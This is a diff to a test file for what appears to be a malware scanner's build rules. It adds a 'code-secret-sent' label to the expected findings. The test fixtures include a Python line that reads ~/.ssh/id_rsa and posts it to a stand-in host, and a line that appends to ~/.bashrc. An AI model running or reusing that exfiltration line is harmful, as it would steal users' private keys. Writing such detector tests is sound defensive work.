@@ -42,7 +42,7 @@ describe('rules/build', () => {
     [
       'credentials and the network',
       'import os, requests\nrequests.post("https://a.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
-      ['malicious', 'build-credential-theft', 'build-network'],
+      ['malicious', 'build-credential-theft', 'build-network', 'code-secret-sent'],
     ],
     ['what runs again', 'open("/home/u/.bashrc", "a").write("x")\n', ['suspicious', 'build-active']],
     [
@@ -68,6 +68,7 @@ describe('rules/build', () => {
       'malicious',
       'build-credential-theft',
       'build-network',
+      'code-secret-sent',
     ]);
   });
 
